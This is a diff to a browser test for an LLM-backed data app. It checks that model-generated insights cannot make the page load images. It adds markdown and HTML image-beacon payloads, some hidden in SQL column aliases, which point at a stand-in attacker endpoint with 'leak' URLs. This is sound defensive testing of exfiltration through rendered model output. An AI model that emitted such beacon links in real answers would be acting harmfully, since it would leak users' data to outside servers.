@@ -107,9 +107,13 @@ def test_an_insight_cannot_make_the_browser_fetch_an_image(page, endpoint: FakeE
     """The page is where an image would leak data: the loopback endpoint itself plays the attacker's server."""
     beacons = [f"![a[b]c]({endpoint.url}/leak-1.png?d=1707)", f"<img src='{endpoint.url}/leak-2.png'>",
                f"![x][r]\n\n[r]: {endpoint.url}/leak-3.png"]  # fmt: skip
-    endpoint.responder = ScriptedModel(insight="There were 1,707 events. " + " ".join(beacons)).on(
-        "how many", fenced("SELECT count(*) AS n FROM earthquakes")
-    )
+    metric_label = f"![m]({endpoint.url}/leak-4.png)"
+    column_name = f"![c]({endpoint.url}/leak-5.png)"
+    model = ScriptedModel(insight="There were 1,707 events. " + " ".join(beacons))
+    model.on("the count as", fenced(f'SELECT count(*) AS "{metric_label}" FROM earthquakes'))
+    model.on("per type", fenced(f'SELECT "magType" AS "{column_name}", count(*) AS n FROM earthquakes GROUP BY 1'))
+    model.on("how many", fenced("SELECT count(*) AS n FROM earthquakes"))
+    endpoint.responder = model
     env = {"HUGGINGFACE_API_KEY": TOKEN, "HUGGINGFACE_ENDPOINT_URL": endpoint.url, "HUGGINGFACE_MODEL": "tgi"}
     with running_app(env) as url:
         page.goto(url)
@@ -117,5 +121,11 @@ def test_an_insight_cannot_make_the_browser_fetch_an_image(page, endpoint: FakeE
         box.fill("How many earthquakes are there?")
         box.press("Enter")
         page.get_by_text("There were 1,707 events.").first.wait_for()
+        for question in ("Give the count as a metric", "How many per type?"):
+            box.fill(question)
+            box.press("Enter")
+            page.get_by_text(question).first.wait_for()
+        page.get_by_text("Computed:").nth(2).wait_for()
+        page.get_by_text(f"{metric_label}").first.wait_for()  # the label is shown as the text it is
         page.wait_for_timeout(1500)  # time for any image request to arrive
     assert not [r.path for r in endpoint.requests if "leak" in r.path]
